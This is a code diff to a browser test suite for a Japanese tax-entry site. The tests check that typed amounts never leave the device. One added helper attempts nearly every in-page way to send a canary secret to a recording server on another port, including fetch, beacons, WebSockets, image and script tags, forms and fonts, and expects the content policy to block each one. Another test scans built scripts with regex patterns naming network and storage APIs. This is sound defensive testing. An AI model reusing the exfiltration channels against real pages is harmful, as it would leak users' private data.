@@ -1,51 +1,176 @@
+import { createServer, type RequestListener } from 'node:http'
 import { mkdtempSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { canary, canaryLeaks } from '../canary.ts'
+import { describe, expect, inject, it, vi } from 'vitest'
+import type { Site } from '@zeimori/resident'
+import { canary, canaryLeaks, postedCanaryLeaks } from '../canary.ts'
 import { hasChromium, launchWithProfile } from '../chromium.ts'
-import { serve, type Served } from '../site.ts'
+import { builtSite, listenerOf, serve } from '../site.ts'
+
+/** A server of either kind, on a free port, and every address it was asked for. */
+async function recording(answer: RequestListener) {
+  const asked: string[] = []
+  const server = createServer((request, response) => {
+    asked.push(`${request.method ?? ''} ${request.url ?? ''}`)
+    answer(request, response)
+  })
+  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
+  const address = server.address()
+  if (typeof address !== 'object' || address === null) throw new Error('no port')
+  return { url: `http://127.0.0.1:${address.port}`, asked, close: () => server.close() }
+}
+
+const hostings: Readonly<Record<string, (site: Site) => Promise<RequestListener>>> = {
+  受け口: async (site) => {
+    const app = listenerOf(site)
+    await app.ready()
+    return (request, response) => app.routing(request, response)
+  },
+  // The site's files, and not one header of ours.
+  ヘッダを送らない置き場:
+    async ({ files }) =>
+    ({ url = '/' }, response) => {
+      const file = files.get(url === '/' ? 't/999997/ja/index.html' : url.slice(1))
+      response.writeHead(file ? 200 : 404, { 'content-type': file?.type ?? 'text/plain' })
+      response.end(file?.bytes)
+    },
+}
+
+/** Every way to send that a page has without leaving itself. Runs inside the browser. */
+async function tryToSend([elsewhere, secret]: readonly [string, string]): Promise<void> {
+  const { port } = new URL(elsewhere)
+  const here = location.origin
+  const quietly = async (attempt: () => unknown): Promise<void> => {
+    try {
+      await attempt()
+    } catch {
+      // Blocked, as it should be.
+    }
+  }
+  const add = (tag: string, attributes: Readonly<Record<string, string>>): Element => {
+    const element = document.createElement(tag)
+    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
+    document.body.append(element)
+    return element
+  }
+  for (const to of [`${elsewhere}/leak?${secret}`, `${here}/leak?${secret}`]) {
+    await quietly(() => fetch(to))
+    await quietly(() =>
+      fetch(to, { method: 'POST', body: secret, mode: 'no-cors', keepalive: true }),
+    )
+    await quietly(() => navigator.sendBeacon(to, secret))
+    await quietly(() => {
+      const request = new XMLHttpRequest()
+      request.open('POST', to)
+      request.send(secret)
+    })
+    await quietly(() => new EventSource(to))
+    await quietly(() => new WebSocket(`ws://127.0.0.1:${port}/leak?${secret}`))
+    await quietly(() => new Worker(to))
+    await quietly(() => navigator.serviceWorker.register(to))
+    await quietly(() => add('img', { src: to }))
+    await quietly(() => add('iframe', { src: to }))
+    await quietly(() => add('object', { data: to }))
+    await quietly(() => add('video', { src: to }))
+    for (const rel of ['preload', 'manifest', 'icon'])
+      await quietly(() => add('link', { rel, href: to, as: 'image' }))
+    await quietly(() => add('div', { style: `background: url(${to})` }))
+    await quietly(() => add('script', { src: to }))
+    await quietly(() => {
+      const form = document.createElement('form')
+      form.action = to
+      form.method = 'post'
+      document.body.append(form)
+      form.submit()
+    })
+  }
+  // From its own site the page may fetch fonts and, ahead of time, files: only there, and it sends nothing.
+  await quietly(() => new FontFace('leak', `url(${elsewhere}/leak?${secret})`).load())
+  await quietly(() => add('link', { rel: 'prefetch', href: `${elsewhere}/leak?${secret}` }))
+  await quietly(() => add('link', { rel: 'stylesheet', href: `${elsewhere}/leak?${secret}` }))
+  await quietly(() => import(`${elsewhere}/leak?${secret}`))
+  await new Promise((resolve) => {
+    setTimeout(resolve, 1_000)
+  })
+}
 
 describe.skipIf(!hasChromium)('入力した金額は、端末の外へ出ず、どこにも残らない', () => {
-  let site: Served
-
-  beforeAll(async () => {
-    site = await serve()
-  })
-  afterAll(() => site?.close())
+  const url = inject('residentUrl')
 
   it('すべての欄に入れても、要求・アドレス・端末のファイルのどこにも現れない', async () => {
-    const { boxes, requests, seen } = await canaryLeaks(site.url)
+    const { boxes, requests, seen } = await canaryLeaks(url)
     expect(boxes).toBeGreaterThan(25)
     expect(requests).toBeGreaterThan(3)
     expect(seen).toEqual([])
   })
 
-  it('たとえページのプログラムがまちがっても、方針が外への送信を止める', async () => {
-    const profile = mkdtempSync(join(tmpdir(), 'zeimori-profile-'))
-    const context = await launchWithProfile(profile)
-    const page = await context.newPage()
-    await page.goto(site.url)
-    const outcomes = await page.evaluate(async (secret) => {
-      const outcome = (attempt: Promise<unknown>): Promise<string> =>
-        attempt.then(
-          () => 'sent',
-          () => 'blocked',
-        )
-      const image = new Image()
-      const loaded = new Promise((resolve, reject) => {
-        image.addEventListener('load', resolve)
-        image.addEventListener('error', reject)
-      })
-      image.src = `/leak?${secret}`
-      return [
-        await outcome(fetch(`/leak?${secret}`)),
-        await outcome(fetch(`http://127.0.0.1:9/leak?${secret}`)),
-        await outcome(loaded),
-      ]
-    }, canary)
-    await context.close()
-    rmSync(profile, { recursive: true, force: true })
-    expect(outcomes).toEqual(['blocked', 'blocked', 'blocked'])
+  it('JavaScriptのないページでは、送った先のほかへ出ず、受け口のファイルにも残らない', async () => {
+    const folder = mkdtempSync(join(tmpdir(), 'zeimori-listener-'))
+    vi.stubEnv('TMPDIR', folder)
+    const said = vi.spyOn(process.stdout, 'write')
+    const site = await serve()
+    vi.unstubAllEnvs()
+    const { boxes, requests, seen } = await postedCanaryLeaks(
+      `${site.url}/t/999997/ja/no-script/`,
+      folder,
+    )
+    const words = said.mock.calls.join('')
+    said.mockRestore()
+    await site.close()
+    rmSync(folder, { recursive: true, force: true })
+    expect(boxes).toBeGreaterThan(20)
+    expect(requests).toBe(1)
+    expect(seen).toEqual([])
+    expect(words).not.toContain(canary)
   })
+})
+
+describe.skipIf(!hasChromium)('たとえページのプログラムがまちがっても、方針が送信を止める', () => {
+  for (const [name, answers] of Object.entries(hostings))
+    it(`${name}のページから`, async () => {
+      const elsewhere = await recording((_, response) => void response.end())
+      const here = await recording(await answers(await builtSite(false)))
+      const profile = mkdtempSync(join(tmpdir(), 'zeimori-profile-'))
+      const context = await launchWithProfile(profile)
+      try {
+        const page = await context.newPage()
+        await page.goto(here.url)
+        await page.evaluate(tryToSend, [elsewhere.url, canary] as const)
+        expect(here.asked.length).toBeGreaterThan(3)
+        expect([...elsewhere.asked, ...here.asked.filter((line) => /leak/.test(line))]).toEqual([])
+      } finally {
+        await context.close()
+        rmSync(profile, { recursive: true, force: true })
+        elsewhere.close()
+        here.close()
+      }
+    })
+})
+
+describe('方針では止められない道を、ページのプログラムは一つも使わない', () => {
+  const ways = [
+    ['別のアドレスへ移る', /\blocation\b|\bnavigation\.|\bhistory\./],
+    ['別の窓を開く', /\bopen\(|window\.open/],
+    ['リンクを押したりフォームを送ったりする', /\.click\(|\.submit\(|requestSubmit/],
+    ['端末どうしでつなぐ', /RTCPeerConnection|WebTransport/],
+    ['要求を出す', /\bfetch\(|XMLHttpRequest|sendBeacon|WebSocket|EventSource|new Image\b/],
+    ['ほかの窓へ渡す', /postMessage|BroadcastChannel|SharedWorker|serviceWorker/],
+    [
+      'あとから何かを取りに行く',
+      /FontFace|prefetch|createElement\("(?:a|form|i?frame|img|link|script)"/,
+    ],
+    ['端末に残す', /localStorage|sessionStorage|indexedDB|\.cookie\b|\bcaches\b|clipboard/],
+  ] as const
+
+  for (const [way, pattern] of ways)
+    it(`${way}ことはない`, async () => {
+      const scripts = [...(await builtSite()).files].filter(([path]) => path.endsWith('.js'))
+      expect(scripts.length).toBeGreaterThan(1)
+      for (const [path, { bytes }] of scripts)
+        expect([path, pattern.exec(Buffer.from(bytes).toString('utf8'))?.[0]]).toEqual([
+          path,
+          undefined,
+        ])
+    })
 })
